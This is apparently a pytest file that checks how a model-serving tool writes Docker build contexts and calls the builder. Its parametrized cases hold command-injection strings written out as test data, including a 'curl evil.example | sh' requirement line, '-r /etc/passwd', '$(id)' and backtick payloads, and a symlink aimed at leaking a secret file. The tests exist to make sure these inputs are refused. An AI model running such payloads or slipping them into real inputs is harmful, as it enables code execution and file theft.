"""Folders that images are built from, and the words that builders are called with."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zipfile
from importlib import metadata
from pathlib import Path

import pytest
from mlflow.models.flavor_backend_registry import get_flavor_backend

import mlflow.models
import mlflow.pyfunc
from mlflow.exceptions import (
    ExecutionException,
    InvalidParameterValue,
    MissingConfigException,
    MlflowNotImplementedException,
    ResourceAlreadyExists,
)
from mlflow.serving.containers.context import ImageOptions, write_context
from mlflow.serving.containers.engine import check_name, find_engine, index_settings
from mlflow.serving.containers.recipe import Recipe
from mlflow.serving.containers.wheels import write_wheel
from tests.processes import clean_environment

ROOT = Path(__file__).resolve().parents[2]
PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"


class Echo(mlflow.pyfunc.PythonModel):
    """Answers with what it is asked."""

    def predict(self, context, model_input, params=None):  # type: ignore[no-untyped-def]
        return model_input


@pytest.fixture
def model(tmp_path: Path) -> Path:
    folder = tmp_path / "model"
    mlflow.pyfunc.save_model(folder, python_model=Echo(), pip_requirements=["numpy<9", 'colorama; os_name == "nt"'])
    return folder


def program(folder: Path, name: str, text: str) -> Path:
    """An executable that stands in for a builder, which not every machine has."""
    folder.mkdir(exist_ok=True)
    file = folder / name
    file.write_text(f"#!/bin/sh\n{text}\n")
    file.chmod(0o755)
    return file


def instructions(dockerfile: str, word: str) -> list[str]:
    """The instructions of a kind, each on one line."""
    lines = dockerfile.replace("\\\n", " ").splitlines()
    return [line.partition(" ")[2] for line in lines if line.startswith(f"{word} ")]


def test_a_model_and_all_it_needs(model: Path, tmp_path: Path) -> None:
    folder = write_context(str(model), tmp_path / "out", ImageOptions())
    text = (folder / "Dockerfile").read_text()
    assert instructions(text, "FROM")[0] == f"python:{PYTHON}-slim AS base"
    assert instructions(text, "USER") == ["10001:10001"]
    (command,) = instructions(text, "CMD")
    words = "mlflow models serve --model-uri /opt/ml/model --env-manager local --host 0.0.0.0 --port 8080"
    assert json.loads(command) == words.split()
    (health,) = instructions(text, "HEALTHCHECK")
    assert "/ping" in json.loads(health.partition("CMD ")[2])[2]
    wheel = f"penstock-{metadata.version('penstock')}-py3-none-any.whl"
    lines = (folder / "install" / "requirements.txt").read_text().splitlines()
    assert lines == [f"penstock @ file:///install/{wheel}", "numpy<9", 'colorama; os_name == "nt"']
    assert {file.name for file in (folder / "model").iterdir()} == {file.name for file in model.iterdir()}
    assert all(path.stat().st_mode & 0o044 == 0o044 for path in folder.rglob("*"))  # the server is another user
    assert mlflow.pyfunc.load_model(str(folder / "model")).predict([1]) == [1]


def test_an_image_of_no_model_makes_the_environment_of_what_is_mounted(tmp_path: Path) -> None:
    folder = write_context(None, tmp_path / "out", ImageOptions(env_manager="uv"))
    text = (folder / "Dockerfile").read_text()
    assert not (folder / "model").exists() and "COPY model" not in text
    assert '"--env-manager", "uv"' in text
    assert (folder / "install" / "requirements.txt").read_text().startswith("penstock[uv] @ ")


def test_nothing_of_a_model_stands_in_a_line_of_a_shell(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    requirements = ["numpy<9", "evil[x] @ https://example.org/$(touch%20x)/`id`.zip"]
    mlflow.pyfunc.save_model(folder, python_model=Echo(), pip_requirements=requirements)
    text = (folder / "MLmodel").read_text()
    text = re.sub("model_uuid: .*", 'model_uuid: "a\\n$(touch x)"', text)
    (folder / "MLmodel").write_text(re.sub("run_id: .*", "", text) + "run_id: 'b\"$HOME'\n")
    written = write_context(str(folder), tmp_path / "out", ImageOptions())
    dockerfile = (written / "Dockerfile").read_text()
    assert "touch" not in dockerfile and "example.org" not in dockerfile and "$HOME" not in dockerfile
    assert "touch" in (written / "install" / "requirements.txt").read_text()


@pytest.mark.parametrize(
    "line", ["numpy; curl evil.example | sh; #", "--index-url https://evil.example", "-r /etc/passwd", "-e .", "$(id)"]
)
def test_a_requirement_that_is_none_is_refused(line: str, model: Path, tmp_path: Path) -> None:
    (model / "requirements.txt").write_text(line)
    with pytest.raises(InvalidParameterValue, match="refused"):
        write_context(str(model), tmp_path / "out", ImageOptions())
    assert not [path for path in tmp_path.iterdir() if "out" in path.name]  # and nothing is half-written


def test_a_link_out_of_the_model_takes_nothing_along(model: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("not yours")
    secret.chmod(0o600)
    (model / "leak").symlink_to(secret)
    copied = write_context(str(model), tmp_path / "out", ImageOptions()) / "model" / "leak"
    assert copied.is_symlink() and secret.stat().st_mode & 0o777 == 0o600


BASES = ["ubuntu", "python:3.11-slim", "host.example:5000/a/b:tag", "a@sha256:" + "0" * 64]


@pytest.mark.parametrize("base", BASES)
def test_an_image_to_begin_with(base: str) -> None:
    assert instructions(Recipe(base, "3.11").dockerfile(), "FROM")[0] == f"{base} AS base"


@pytest.mark.parametrize("base", ["", "a b", "a\nRUN x", "$BASE", "${x}", "-a", "a;b", 'a"b', "a`b`", "a\\", "../a"])
def test_what_is_no_image_to_begin_with(base: str) -> None:
    with pytest.raises(InvalidParameterValue, match="begin with"):
        Recipe(base, "3.11")


@pytest.mark.parametrize("name", ["a", "a-b_c.d", "team/a:1.0", "host.example:5000/team/a:latest"])
def test_names_of_images(name: str) -> None:
    check_name(name)


@pytest.mark.parametrize(
    "name", ["", "A", "-t", "a;id", "$(id)", "a b", "a\n", "a'b", 'a"', "`id`", "a&&b", "a|b", "../a", "a:", "a:b:c:d"]
)
def test_what_is_no_name_of_an_image(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")  # refused before a builder is looked for
    with pytest.raises(InvalidParameterValue, match="no name of an image"):
        mlflow.models.build_docker(name=name)


def test_a_builder_is_called_with_words(tmp_path: Path, model: Path) -> None:
    records = 'case "$1" in image) echo 12345678;; build) shift; printf "%s\\n" "$@" > "$SAID";; esac'
    found = program(tmp_path / "a bin", "docker", records)
    said = tmp_path / "said"
    environment = clean_environment(
        PATH=f"{found.parent}:{os.defpath}", SAID=str(said), https_proxy="http://127.0.0.1:1"
    )
    environment.pop("SSL_CERT_FILE", None)
    environment.pop("REQUESTS_CA_BUNDLE", None)
    command = [sys.executable, "-m", "mlflow", "models", "build-docker", "-m", str(model), "-n", "team/echo:1"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "Built team/echo:1 (12 MB)" in done.stderr and "docker run" in done.stderr
    words = said.read_text().splitlines()
    assert words[:2] == ["--tag", "team/echo:1"]
    assert ["--build-arg", "https_proxy"] in [words[at : at + 2] for at in range(len(words))]
    assert "127.0.0.1" not in said.read_text()  # a name only: the builder takes the value from its environment


def test_a_build_that_fails_is_told(tmp_path: Path, model: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = program(tmp_path / "bin", "podman", "exit 3")
    monkeypatch.setenv("PENSTOCK_CONTAINER_ENGINE", str(found))
    with pytest.raises(ExecutionException, match=r"podman could not build echo \(exit status 3\)"):
        mlflow.models.build_docker(str(model), "echo")


def test_the_builder_that_answers_is_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "bin"
    monkeypatch.setenv("PATH", str(folder))
    with pytest.raises(MissingConfigException, match="neither Docker nor Podman is installed"):
        find_engine()
    program(folder, "docker", "exit 1")
    with pytest.raises(MissingConfigException, match="docker does not answer"):
        find_engine()
    podman = program(folder, "podman", "exit 0")
    assert find_engine().program == str(podman) and find_engine().is_podman
    assert find_engine("docker").program.endswith("docker")
    with pytest.raises(MissingConfigException, match="'nerdctl'"):
        find_engine("nerdctl")


def test_settings_of_indexes_are_quoted_and_known_to_both_tools() -> None:
    environment = {"PIP_INDEX_URL": "https://u:p'$(id)@example.org/simple", "UV_INDEX_X_PASSWORD": "a b", "HOME": "/x"}
    script = index_settings(environment) + 'printf "%s\\n" "$PIP_INDEX_URL" "$UV_DEFAULT_INDEX" "$UV_INDEX_X_PASSWORD"'
    said = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True, env={}).stdout.splitlines()
    assert said == [environment["PIP_INDEX_URL"], environment["PIP_INDEX_URL"], "a b"]
    assert "HOME" not in script


def test_libraries_of_the_system(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "model"
    mlflow.pyfunc.save_model(folder, python_model=Echo(), pip_requirements=["lightgbm", "pyspark"])

    def packages(**options: bool) -> str:
        return (write_context(str(folder), tmp_path / "out", ImageOptions(**options)) / "Dockerfile").read_text()

    assert "libgomp1" in packages() and "default-jre-headless" in packages()
    assert "jre" not in packages(install_java=False)
    monkeypatch.setenv("MLFLOW_DOCKER_OPENJDK_VERSION", "17")
    assert "openjdk-17-jre-headless" in packages()
    monkeypatch.setenv("MLFLOW_DOCKER_OPENJDK_VERSION", "17; id")
    with pytest.raises(InvalidParameterValue, match="must be a number"):
        packages()


def test_other_tools(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    conda = {"channels": ["conda-forge"], "dependencies": ["python=3.11", "libblas", {"pip": ["numpy<9"]}]}
    mlflow.pyfunc.save_model(folder, python_model=Echo(), conda_env=conda)
    local = (
        write_context(str(folder), tmp_path / "local", ImageOptions(env_manager="local")) / "Dockerfile"
    ).read_text()
    assert "--system" in local and "/opt/venv" not in local
    made = write_context(str(folder), tmp_path / "conda", ImageOptions(env_manager="conda"))
    assert "conda env create" in (made / "Dockerfile").read_text()
    text = (made / "install" / "environment.yaml").read_text()
    assert "- libblas\n" in text and "numpy<9" in text and "file:///install/penstock" in text
    with pytest.raises(InvalidParameterValue, match="env_manager"):
        ImageOptions(env_manager="poetry")
    with pytest.raises(MlflowNotImplementedException):
        ImageOptions(enable_mlserver=True)


def test_a_folder_of_other_things_is_left_alone(model: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    write_context(str(model), folder, ImageOptions())
    write_context(None, folder, ImageOptions())  # one of ours is replaced
    assert not (folder / "model").exists()
    (folder / "Dockerfile").write_text("FROM mine\n")
    with pytest.raises(ResourceAlreadyExists):
        write_context(str(model), folder, ImageOptions())
    assert (folder / "Dockerfile").read_text() == "FROM mine\n"


def test_the_wheel_is_this_package(tmp_path: Path) -> None:
    wheel = write_wheel(tmp_path)
    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()
    assert "mlflow/serving/app.py" in names and "mlflow/py.typed" in names
    assert not [name for name in names if "__pycache__" in name or "/ui/" in name]
    (tmp_path / "again").mkdir()
    assert write_wheel(tmp_path / "again").read_bytes() == wheel.read_bytes()


@pytest.mark.slow
def test_the_wheel_installs(tmp_path: Path) -> None:
    wheel, home = write_wheel(tmp_path), tmp_path / "venv"
    uv = [sys.executable, "-m", "uv"]
    subprocess.run([*uv, "venv", "--quiet", str(home)], check=True)
    install = [*uv, "pip", "install", "--quiet", "--python", str(home / "bin" / "python"), str(wheel)]
    subprocess.run(install, check=True)
    said = subprocess.run([str(home / "bin" / "mlflow"), "--version"], env=clean_environment(), cwd=tmp_path,
                          capture_output=True, text=True, check=True)  # fmt: skip
    assert "3.6.0" in said.stdout


def test_a_checkout_must_be_one(tmp_path: Path) -> None:
    with pytest.raises(InvalidParameterValue, match="no checkout"):
        write_wheel(tmp_path, tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    (other / "pyproject.toml").write_text('[project]\nname = "other"\nversion = "1"\n')
    (other / "other.py").write_text("")
    with pytest.raises((InvalidParameterValue, ExecutionException), match="other"):
        write_wheel(tmp_path, other)


@pytest.mark.slow
def test_a_checkout_is_built(tmp_path: Path) -> None:
    with zipfile.ZipFile(write_wheel(tmp_path, ROOT)) as archive:
        assert "mlflow/serving/app.py" in archive.namelist()


def test_backends_do_what_the_commands_do(model: Path, tmp_path: Path) -> None:
    backend = get_flavor_backend(str(model), env_manager="local")
    assert isinstance(backend, mlflow.models.FlavorBackend)
    assert backend.can_score_model() and backend.can_build_image()
    rows, answer = tmp_path / "rows.json", tmp_path / "answer.json"
    rows.write_text('{"inputs": [1, 2]}')
    backend.predict(str(model), str(rows), str(answer), "json")
    assert json.loads(answer.read_text()) == {"predictions": [1, 2]}
    backend.generate_dockerfile(str(model), str(tmp_path / "out"))
    assert (tmp_path / "out" / "Dockerfile").is_file()
    assert backend.prepare_env(str(model)) is None
    with pytest.raises(InvalidParameterValue, match="env_manager"):
        get_flavor_backend(str(model), env_manager="poetry")
    (model / "MLmodel").write_text("flavors:\n  other: {}\n")
    with pytest.raises(InvalidParameterValue, match="python_function"):
        get_flavor_backend(str(model))
